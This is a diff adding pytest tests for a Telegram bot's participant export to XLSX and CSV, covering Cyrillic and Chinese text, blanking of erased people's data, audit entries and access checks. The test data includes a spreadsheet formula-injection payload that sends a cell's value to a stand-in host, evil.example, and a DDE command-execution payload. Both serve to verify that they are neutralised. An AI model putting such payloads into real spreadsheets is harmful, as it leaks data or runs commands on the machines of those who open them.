@@ -1,0 +1,258 @@
+"""/export: XLSX and CSV files with the right columns, intact Cyrillic and Chinese, neutralised
+formulas, erased people left blank; the audit entry; access."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import UTC, datetime
+
+import pytest
+from aiogram.methods import AnswerCallbackQuery, SendDocument
+from aiogram.types import BufferedInputFile
+from openpyxl import load_workbook
+from openpyxl.worksheet.worksheet import Worksheet
+from sqlalchemy import select
+
+from bot.services.export import (
+    COLUMNS,
+    PARTICIPANTS_SHEET,
+    Table,
+    column_widths,
+    neutralise,
+    safe_cell,
+)
+from db.models import AuditEntry
+from tests.flows import register
+from tests.harness import ORGANIZER_ID, BotHarness, FakeUser
+from tests.test_admin_stats import TWO_EVENTS, add_registration
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Нажмите")'
+REGISTERED_AT_MSK = datetime(2025, 8, 20, 12, 0)  # the harness clock, 09:00 UTC
+COLUMN = {column.header_key: index for index, column in enumerate(COLUMNS)}
+
+
+async def add_participants(harness: BotHarness) -> None:
+    """Two through the real form (ru, zh; each also gets a calendar file as a document), a
+    formula for a name, an erased person."""
+    await register(harness.user(1, "ru"), phone="+7 900 123-45-67")
+    await register(harness.user(2, "zh-hans"), "zh", name="张伟", email="zhangwei@163.com")
+    await add_registration(harness, 3, full_name=FORMULA, organization="@cmd|' /C calc'!A0")
+    await add_registration(
+        harness,
+        None,
+        status="cancelled",
+        full_name=None,
+        country=None,
+        city=None,
+        organization=None,
+        email=None,
+        role="veteran",
+        created_at=datetime(2025, 8, 19, 21, 30, tzinfo=UTC),
+    )
+
+
+async def export(harness: BotHarness, organizer: FakeUser, button: str) -> SendDocument:
+    await organizer.send("/export")
+    await organizer.click(button)
+    [document] = documents(harness, organizer.id)
+    return document
+
+
+def documents(harness: BotHarness, chat_id: int) -> list[SendDocument]:
+    return [
+        s.method
+        for s in harness.session.sent
+        if isinstance(s.method, SendDocument) and int(s.method.chat_id) == chat_id
+    ]
+
+
+def file_bytes(document: SendDocument) -> bytes:
+    assert isinstance(document.document, BufferedInputFile)
+    return document.document.data
+
+
+def headers(harness: BotHarness, lang: str) -> list[str]:
+    t = harness.i18n(lang)
+    return [t(column.header_key) for column in COLUMNS]
+
+
+def sheet_rows(sheet: Worksheet) -> list[list[object]]:
+    return [list(row) for row in sheet.iter_rows(values_only=True)]
+
+
+async def audit(harness: BotHarness) -> list[AuditEntry]:
+    async with harness.session_factory() as session:
+        return list((await session.scalars(select(AuditEntry))).all())
+
+
+# --- XLSX ------------------------------------------------------------------------------------
+
+
+async def test_xlsx(harness: BotHarness) -> None:
+    await add_participants(harness)
+    organizer = harness.user(ORGANIZER_ID, "ru")
+    document = await export(harness, organizer, "XLSX")
+    assert isinstance(document.document, BufferedInputFile)
+    assert document.document.filename == "victory-2025-participants-2025-08-20-1200.xlsx"
+    assert document.caption and "записей в файле — 4" in document.caption
+
+    workbook = load_workbook(io.BytesIO(file_bytes(document)))
+    assert workbook.sheetnames == [PARTICIPANTS_SHEET]
+    sheet = workbook[PARTICIPANTS_SHEET]
+    header, *rows = sheet_rows(sheet)
+    assert header == headers(harness, "ru")
+    assert len(rows) == 4
+    ru_row, zh_row, formula_row, erased_row = rows
+
+    name = COLUMN["export-col-full-name"]
+    assert ru_row[name] == "Иванов Иван Иванович"
+    assert zh_row[name] == "张伟" and zh_row[COLUMN["export-col-country"]] == "俄罗斯"
+    assert zh_row[COLUMN["export-col-language"]] == "китайский"
+    assert ru_row[COLUMN["export-col-role"]] == "Педагог"
+    assert ru_row[COLUMN["export-col-telegram-id"]] == 1
+    assert ru_row[COLUMN["export-col-registered-at"]] == REGISTERED_AT_MSK
+    assert ru_row[COLUMN["export-col-phone"]] == "'+79001234567"
+    assert ru_row[COLUMN["export-col-status"]] == "активна"
+
+    # Text that a spreadsheet would run stays text, and shows as typed after the apostrophe.
+    assert formula_row[name] == "'" + FORMULA
+    assert formula_row[COLUMN["export-col-organization"]] == "'@cmd|' /C calc'!A0"
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+    assert_erased(erased_row)
+    assert sheet.freeze_panes == "A2"
+    assert sheet.auto_filter.ref == "A1:R5"
+    assert sheet.column_dimensions["C"].width >= len("Иванов Иван Иванович")
+
+
+def assert_erased(row: list[object]) -> None:
+    personal = [COLUMN[key] for key in COLUMN if COLUMNS[COLUMN[key]].personal]
+    assert len(personal) == 8
+    assert [row[i] for i in personal] == [None] * len(personal)
+    assert row[COLUMN["export-col-role"]] == "Ветеран"  # the anonymous part stays
+    assert row[COLUMN["export-col-status"]] == "данные удалены по просьбе участника"
+    assert row[COLUMN["export-col-registered-at"]] == datetime(2025, 8, 20, 0, 30)
+
+
+async def test_xlsx_in_chinese(harness: BotHarness) -> None:
+    await add_participants(harness)
+    organizer = harness.user(ORGANIZER_ID, "zh-hans")
+    document = await export(harness, organizer, "XLSX")
+    assert document.caption and "共 4 条报名记录" in document.caption
+    sheet = load_workbook(io.BytesIO(file_bytes(document)))[PARTICIPANTS_SHEET]
+    header, ru_row, *_ = sheet_rows(sheet)
+    assert header == headers(harness, "zh")
+    assert "姓名" in header
+    assert ru_row[COLUMN["export-col-role"]] == "教师"
+    assert ru_row[COLUMN["export-col-wants-to-speak"]] == "否"
+
+
+# --- CSV -------------------------------------------------------------------------------------
+
+
+async def test_csv(harness: BotHarness) -> None:
+    await add_participants(harness)
+    organizer = harness.user(ORGANIZER_ID, "ru")
+    document = await export(harness, organizer, "CSV")
+    assert isinstance(document.document, BufferedInputFile)
+    assert document.document.filename.endswith(".csv")
+    data = file_bytes(document)
+    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads UTF-8
+    header, *rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert header == headers(harness, "ru")
+    assert len(rows) == 4
+    name = COLUMN["export-col-full-name"]
+    assert [row[name] for row in rows] == ["Иванов Иван Иванович", "张伟", "'" + FORMULA, ""]
+    assert rows[0][COLUMN["export-col-registered-at"]] == "2025-08-20 12:00"
+    assert rows[0][COLUMN["export-col-phone"]] == "'+79001234567"
+    assert rows[3][COLUMN["export-col-telegram-id"]] == ""
+
+
+def test_neutralisation() -> None:
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert neutralise(f"{start}1+1") == f"'{start}1+1"
+    for safe in ("Иванов", "张伟", "a=b", " =1", "'quoted", ""):
+        assert neutralise(safe) == safe
+    assert safe_cell(-5) == -5 and safe_cell(None) is None
+
+
+def test_chinese_characters_count_double_for_widths() -> None:
+    table = Table(headers=["A", "B"], rows=[["张伟张伟张伟张伟张伟", "abcdefghij"]])
+    assert column_widths(table) == [22, 12]
+
+
+# --- the dialogue ----------------------------------------------------------------------------
+
+
+async def test_export_is_audited(harness: BotHarness) -> None:
+    await add_participants(harness)
+    organizer = harness.user(ORGANIZER_ID, "ru")
+    await export(harness, organizer, "CSV")
+    [entry] = await audit(harness)
+    assert (entry.actor_id, entry.action, entry.event_id) == (ORGANIZER_ID, "export", 1)
+    assert entry.details == {"format": "csv", "rows": 4}
+
+
+@pytest.mark.parametrize("events", [TWO_EVENTS])
+async def test_from_the_menu_with_several_events(harness: BotHarness) -> None:
+    await add_registration(harness, 1, slug="memory-2026", full_name="Сидорова Анна")
+    organizer = harness.user(ORGANIZER_ID, "ru")
+    await organizer.send("/admin")
+    await organizer.click("Выгрузка")
+    assert "Выберите мероприятие" in organizer.last()
+    await organizer.click("memory-2026")
+    assert "Выгрузка участников «Конференция «memory-2026»»" in organizer.last()
+    await organizer.click("XLSX")
+    [document] = documents(harness, ORGANIZER_ID)
+    sheet = load_workbook(io.BytesIO(file_bytes(document)))[PARTICIPANTS_SHEET]
+    [_, row] = sheet_rows(sheet)
+    assert row[COLUMN["export-col-full-name"]] == "Сидорова Анна"
+    assert [(a.action, a.event_id) for a in await audit(harness)] == [("export", 2)]
+
+
+async def test_an_empty_event_gives_a_file_with_the_header_only(harness: BotHarness) -> None:
+    organizer = harness.user(ORGANIZER_ID, "ru")
+    document = await export(harness, organizer, "XLSX")
+    sheet = load_workbook(io.BytesIO(file_bytes(document)))[PARTICIPANTS_SHEET]
+    assert sheet_rows(sheet) == [headers(harness, "ru")]
+
+
+@pytest.mark.parametrize("data", ["aexp:victory-2025:pdf", "aexp:no-such-event:xlsx"])
+async def test_forged_format_buttons(harness: BotHarness, data: str) -> None:
+    organizer = harness.user(ORGANIZER_ID, "ru")
+    replies = await organizer.press(data)
+    [answer] = [r.method for r in replies]
+    assert isinstance(answer, AnswerCallbackQuery)
+    assert answer.text == harness.i18n("ru")("err-stale-button")
+    assert await audit(harness) == []
+
+
+# --- access ----------------------------------------------------------------------------------
+
+
+async def test_export_does_not_exist_for_participants(harness: BotHarness) -> None:
+    await add_participants(harness)
+    user = harness.user(1)
+    replies = await user.send("/export")
+    assert [r.method.text for r in replies] == [harness.i18n("ru")("unknown-command")]
+    assert user.last().startswith("Такой команды нет")
+
+
+@pytest.mark.parametrize("data", ["am:export", "ae:export:victory-2025", "aexp:victory-2025:xlsx"])
+async def test_export_buttons_are_refused_to_participants(harness: BotHarness, data: str) -> None:
+    await add_participants(harness)
+    user = harness.user(1)
+    replies = await user.press(data)
+    [answer] = [r.method for r in replies]
+    assert isinstance(answer, AnswerCallbackQuery) and answer.show_alert
+    assert answer.text == harness.i18n("ru")("admin-only")
+    assert await audit(harness) == []
+
+
+def test_every_column_has_a_header_in_both_languages() -> None:
+    from bot.i18n import I18n
+
+    for t in I18n().all():
+        assert all(t.has(column.header_key) for column in COLUMNS)
+        assert t.has("export-btn-xlsx") and t.has("export-btn-csv")
